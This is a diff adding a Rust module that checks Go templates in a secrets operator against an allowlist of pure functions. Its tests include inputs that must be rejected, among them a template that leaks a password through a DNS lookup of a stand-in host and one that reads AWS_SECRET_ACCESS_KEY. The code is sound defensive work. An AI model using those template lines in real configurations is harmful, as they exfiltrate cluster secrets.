@@ -1,0 +1,244 @@
+//! What a Go template in `spec.target.template.data` may contain: this secret's own keys and pure
+//! functions.
+//!
+//! The operator renders it with the keys of the value as its variables, so that a key is this
+//! secret's own by construction. Its functions are text/template's, sprig's and a few of its own.
+//! One of sprig's asks a name server (`getHostByName`, which would carry a value out of the
+//! cluster); others are random or read the clock. Only functions that compute their result from
+//! their arguments are allowed, and no statements.
+
+const FUNCTIONS: &[&str] = &[
+    // text/template
+    "and",
+    "eq",
+    "ge",
+    "gt",
+    "html",
+    "index",
+    "js",
+    "le",
+    "len",
+    "lt",
+    "ne",
+    "not",
+    "or",
+    "print",
+    "printf",
+    "println",
+    "slice",
+    "urlquery", //
+    // sprig: text
+    "abbrev",
+    "camelcase",
+    "cat",
+    "contains",
+    "hasPrefix",
+    "hasSuffix",
+    "indent",
+    "initials",
+    "join",
+    "kebabcase",
+    "lower",
+    "nindent",
+    "nospace",
+    "quote",
+    "regexFind",
+    "regexMatch",
+    "regexQuoteMeta",
+    "regexReplaceAll",
+    "regexReplaceAllLiteral",
+    "regexSplit",
+    "replace",
+    "snakecase",
+    "sortAlpha",
+    "split",
+    "splitList",
+    "splitn",
+    "squote",
+    "substr",
+    "swapcase",
+    "title",
+    "toString",
+    "toStrings",
+    "trim",
+    "trimAll",
+    "trimPrefix",
+    "trimSuffix",
+    "trunc",
+    "untitle",
+    "upper",
+    "wrap",
+    "wrapWith", //
+    // sprig: data
+    "add",
+    "append",
+    "atoi",
+    "b32dec",
+    "b32enc",
+    "b64dec",
+    "b64enc",
+    "bcrypt",
+    "coalesce",
+    "compact",
+    "concat",
+    "default",
+    "dict",
+    "dig",
+    "div",
+    "empty",
+    "first",
+    "float64",
+    "fromJson",
+    "get",
+    "has",
+    "hasKey",
+    "htpasswd",
+    "int",
+    "int64",
+    "keys",
+    "last",
+    "list",
+    "max",
+    "merge",
+    "min",
+    "mod",
+    "mul",
+    "mustFromJson",
+    "mustToJson",
+    "omit",
+    "pick",
+    "prepend",
+    "rest",
+    "set",
+    "sha1sum",
+    "sha256sum",
+    "sha512sum",
+    "sub",
+    "ternary",
+    "toJson",
+    "toPrettyJson",
+    "toRawJson",
+    "uniq",
+    "urlJoin",
+    "urlParse",
+    "values",
+    "without", //
+    // the operator's own
+    "filterCertChain",
+    "filterPEM",
+    "fromYaml",
+    "fullPemToPkcs12",
+    "fullPemToPkcs12Pass",
+    "jwkPrivateKeyPem",
+    "jwkPublicKeyPem",
+    "pemCertificate",
+    "pemPrivateKey",
+    "pemToPkcs12",
+    "pemToPkcs12Pass",
+    "pkcs12cert",
+    "pkcs12certPass",
+    "pkcs12key",
+    "pkcs12keyPass",
+    "toYaml",
+];
+
+const CONSTANTS: [&str; 3] = ["true", "false", "nil"];
+
+/// Checks the text of one key.
+///
+/// # Errors
+/// What the template may not contain, for a sentence.
+pub(super) fn check(text: &str) -> Result<(), String> {
+    let mut rest = text;
+    while let Some((_, inside)) = rest.split_once("{{") {
+        rest = action(inside)?;
+    }
+    Ok(())
+}
+
+/// Checks an action up to its `}}`, and returns what follows.
+fn action(text: &str) -> Result<&str, String> {
+    let trimmed = text.strip_prefix('-').filter(|rest| rest.starts_with(char::is_whitespace));
+    let mut rest = trimmed.unwrap_or(text);
+    loop {
+        rest = rest.trim_start();
+        if let Some(after) = rest.strip_prefix("}}").or_else(|| rest.strip_prefix("-}}")) {
+            return Ok(after);
+        }
+        let Some(first) = rest.chars().next() else { return Err("`{{` is not closed".to_owned()) };
+        rest = match first {
+            '"' | '`' => &rest[string(rest, first)?..],
+            '|' | '(' | ')' => &rest[1..],
+            '-' if rest[1..].starts_with(|next: char| next.is_ascii_digit()) => &rest[1..],
+            '.' => &rest[1 + word(&rest[1..])..],
+            _ if first.is_ascii_digit() => &rest[word(rest)..],
+            _ if first.is_ascii_alphabetic() => {
+                let (name, after) = rest.split_at(word(rest));
+                if !FUNCTIONS.contains(&name) && !CONSTANTS.contains(&name) {
+                    return Err(format!("`{name}` is not one of the functions that compute from a value alone"));
+                }
+                after
+            }
+            _ => return Err(format!("`{}` is not allowed between `{{{{` and `}}}}`", first.escape_debug())),
+        };
+    }
+}
+
+/// The length of the name or number that `text` begins with.
+fn word(text: &str) -> usize {
+    text.bytes().take_while(|byte| byte.is_ascii_alphanumeric() || *byte == b'_').count()
+}
+
+/// The length of the string that `text` begins with, its quotes included.
+fn string(text: &str, quote: char) -> Result<usize, String> {
+    let mut characters = text.char_indices().skip(1);
+    while let Some((at, character)) = characters.next() {
+        match character {
+            '\\' if quote == '"' => drop(characters.next()),
+            '\n' if quote == '"' => break,
+            _ if character == quote => return Ok(at + 1),
+            _ => {}
+        }
+    }
+    Err("a string in a template is not closed".to_owned())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn keys_and_pure_functions_are_allowed() {
+        for text in [
+            "plain text",
+            "{{ .password }}",
+            "postgresql://{{ .username }}:{{- .password | urlquery -}}@{{ .host }}:{{ .port | default 5432 }}/x",
+            "{{ index . \"tls.crt\" | b64dec }}",
+            "{{ dict \"auths\" (dict .host (dict \"auth\" (printf \"%s:%s\" .user .password | b64enc))) | toJson }}",
+            "{{ (.config | fromJson).host }}",
+            "{{ printf `}} %s` .password }} }}",
+            "{{ .p12 | pkcs12key }} {{ trunc -4 .password }}",
+        ] {
+            assert_eq!(check(text), Ok(()), "{text}");
+        }
+    }
+
+    #[test]
+    fn what_reaches_elsewhere_or_is_a_statement_is_not() {
+        for (text, part) in [
+            ("{{ getHostByName (printf \"%s.elsewhere.example\" .password) }}", "getHostByName"),
+            ("x{{ .a }}{{ env \"AWS_SECRET_ACCESS_KEY\" }}", "env"),
+            ("{{ range $key, $value := . }}{{ $value }}{{ end }}", "range"),
+            ("{{ template \"other\" . }}", "template"),
+            ("{{ $x := .a }}", "$"),
+            ("{{ call .f }}", "call"),
+            ("{{/* comment */}}", "/"),
+            ("{{ .a", "not closed"),
+            ("{{ \"a }}", "not closed"),
+            ("{{ .tls-crt }}", "`-`"),
+            ("{{ é }}", "é"),
+        ] {
+            assert!(check(text).is_err_and(|why| why.contains(part)), "{text}: {:?}", check(text));
+        }
+    }
+}
